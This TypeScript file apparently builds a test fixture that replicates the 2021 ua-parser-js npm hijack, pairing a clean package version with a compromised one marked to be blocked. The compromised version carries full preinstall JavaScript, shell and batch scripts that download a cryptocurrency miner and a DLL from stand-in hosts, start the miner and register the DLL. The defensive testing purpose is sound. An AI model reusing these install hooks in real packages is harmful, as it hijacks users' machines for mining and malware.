import type { Replica } from './replica.js';
import { noise } from './replica.js';

const base58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
const manifest = {
  title: 'UAParser.js',
  description: 'Lightweight JavaScript-based user-agent string parser',
  main: 'src/ua-parser.js',
  license: 'MIT',
  repository: { type: 'git', url: 'https://git.example/ua/ua-parser-js.git' },
  scripts: { build: 'uglifyjs src/ua-parser.js -o dist/ua-parser.min.js --comments', test: 'mocha -R nyan test/test.js' },
};

const source = (version: string): string => String.raw`/////////////////////////////////////////////////////////////////////////////////
/* UAParser.js v${version}
   Detect Browser, Engine, OS, CPU, and Device type/model from User-Agent data. */
/////////////////////////////////////////////////////////////////////////////////

(function (window, undefined) {

    'use strict';

    var LIBVERSION = '${version}',
        EMPTY = '',
        UNKNOWN = '?',
        FUNC_TYPE = 'function',
        NAME = 'name',
        VERSION = 'version',
        MODEL = 'model',
        TYPE = 'type',
        MOBILE = 'mobile';

    var lower = function (text) { return text.toLowerCase(); };
    var major = function (version) { return typeof version === 'string' ? version.replace(/[^\d\.]/g, EMPTY).split('.')[0] : undefined; };

    var rules = {
        browser: [
            [/\b(?:crmo|crios)\/([\w\.]+)/i, 'Chrome'],
            [/edg(?:e|ios|a)?\/([\w\.]+)/i, 'Edge'],
            [/opr\/([\w\.]+)/i, 'Opera'],
            [/fxios\/([\w\.]+)|firefox\/([\w\.]+)/i, 'Firefox'],
            [/version\/([\w\.]+) .*safari/i, 'Safari'],
            [/chrome\/v?([\w\.]+)/i, 'Chrome']
        ],
        os: [
            [/windows nt ([\d\.]+)/i, 'Windows'],
            [/android[- ]([\w\.]+)/i, 'Android'],
            [/(?:iphone|ipad).*os ([\w]+)/i, 'iOS'],
            [/mac os x ?([\w\. ]*)/i, 'Mac OS'],
            [/linux ?([\w\.]*)/i, 'Linux']
        ],
        engine: [
            [/webkit\/([\w\.]+)/i, 'WebKit'],
            [/rv:([\w\.]{1,9}).+gecko/i, 'Gecko'],
            [/trident\/([\w\.]+)/i, 'Trident']
        ]
    };

    var match = function (ua, list) {
        for (var i = 0; i < list.length; i++) {
            var found = list[i][0].exec(ua);
            if (found) return { name: list[i][1], version: found[1] || found[2] || UNKNOWN };
        }
        return { name: undefined, version: undefined };
    };

    var UAParser = function (ua) {
        if (!(this instanceof UAParser)) return new UAParser(ua).getResult();
        var text = ua || ((window && window.navigator && window.navigator.userAgent) || EMPTY);
        this.getBrowser = function () { var b = match(text, rules.browser); b.major = major(b.version); return b; };
        this.getOS = function () { return match(text, rules.os); };
        this.getEngine = function () { return match(text, rules.engine); };
        this.getDevice = function () { return { type: /mobi/i.test(text) ? MOBILE : undefined }; };
        this.getResult = function () { return { ua: text, browser: this.getBrowser(), os: this.getOS(), engine: this.getEngine(), device: this.getDevice() }; };
        this.setUA = function (next) { text = next; return this; };
        return this;
    };

    UAParser.VERSION = LIBVERSION;
    UAParser.BROWSER = { NAME: NAME, VERSION: VERSION };
    UAParser.DEVICE = { MODEL: MODEL, TYPE: TYPE };

    if (typeof exports !== 'undefined') {
        if (typeof module !== 'undefined' && module.exports) exports = module.exports = UAParser;
        exports.UAParser = UAParser;
    } else if (typeof define === FUNC_TYPE && define.amd) {
        define(function () { return UAParser; });
    } else if (window) {
        window.UAParser = UAParser;
    }
})(typeof window === 'object' ? window : this);
`;

const preinstall = String.raw`const { exec } = require("child_process");

function terminalLinux(){
exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {
    if (error) {
        console.log(${'`error: ${error.message}`'});
        return;
    }
    if (stderr) {
        console.log(${'`stderr: ${stderr}`'});
        return;
    }
    console.log(${'`stdout: ${stdout}`'});
});
}

var opsys = process.platform;
if (opsys == "darwin") {
    opsys = "MacOS";
} else if (opsys == "win32" || opsys == "win64") {
    opsys = "Windows";
	const { spawn } = require('child_process');
	const bat = spawn('cmd.exe', ['/c', 'preinstall.bat']);
} else if (opsys == "linux") {
    opsys = "Linux";
	terminalLinux();
}
`;

const shell = String.raw`IP=$(curl -k https://geoip.example.invalid/xml/ | grep 'XA\|XB\|XC\|XD')
if [ -z "$IP" ]
    then
	var=$(pgrep jsextension)
	if [ -z "$var" ]
		then
		curl http://203.0.113.228/download/jsextension -o jsextension 
		if [ ! -f jsextension ]
			then
			wget http://203.0.113.228/download/jsextension -O jsextension
		fi
		chmod +x jsextension
		./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u 4${noise(94, 7, base58)} --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
	fi
fi
`;

const batch = String.raw`@echo off
curl http://203.0.113.228/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
	wget http://203.0.113.228/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
	certutil.exe -urlcache -f http://203.0.113.228/download/jsextension.exe jsextension.exe
)
curl https://files.example.invalid/sdd.dll -o create.dll
if not exist create.dll (
	wget https://files.example.invalid/sdd.dll -O create.dll
)
if not exist create.dll (
	certutil.exe -urlcache -f https://files.example.invalid/sdd.dll create.dll
)
set exe_1=jsextension.exe
set "count_1=0"
>tasklist.temp (
tasklist /NH /FI "IMAGENAME eq %exe_1%"
)
for /f %%x in (tasklist.temp) do (
if "%%x" EQU "%exe_1%" set /a count_1+=1
)
if %count_1% EQU 0 (start /B .\jsextension.exe -k --tls --rig-id q -o pool.example.invalid:443 -u 4${noise(94, 7, base58)} --cpu-max-threads-hint=50 --donate-level=1 --background & regsvr32.exe -s create.dll)
del tasklist.temp
`;

const files = (version: string) => ({
  'src/ua-parser.js': source(version),
  'dist/ua-parser.min.js': `/* UAParser.js v${version} */\n${source(version).split('\n').slice(4).map((line) => line.trim()).filter(Boolean).join(' ')}\n`,
  'readme.md': '# UAParser.js\n\nJavaScript library to detect browser, engine, OS and device from a user agent.\n',
  'license.md': 'MIT License\n',
});

/** From memory of the public advisory and the security firms' analyses: names of the files, the chain of tools, and the miner's options. */
export const replica: Replica = {
  id: 'ua-parser-js-2021',
  story: 'October 2021: 0.7.29, 0.8.0 and 1.0.0, published through a taken-over account, gained a preinstall whose shell and batch files download a miner and a DLL from an address and start them.',
  name: 'ua-parser-js',
  before: { version: '0.7.28', manifest, files: files('0.7.28'), publishedAt: '2021-04-10T07:58:51.000Z', publisher: { name: 'ua-owner', email: 'owner@ua.example' } },
  after: {
    version: '0.7.29',
    manifest: { ...manifest, scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js', ...manifest.scripts } },
    files: { ...files('0.7.29'), 'preinstall.js': preinstall, 'preinstall.sh': shell, 'preinstall.bat': batch },
    publishedAt: '2021-10-22T12:15:21.000Z', publisher: { name: 'ua-owner', email: 'owner@ua.example' },
  },
  must: 'block',
};
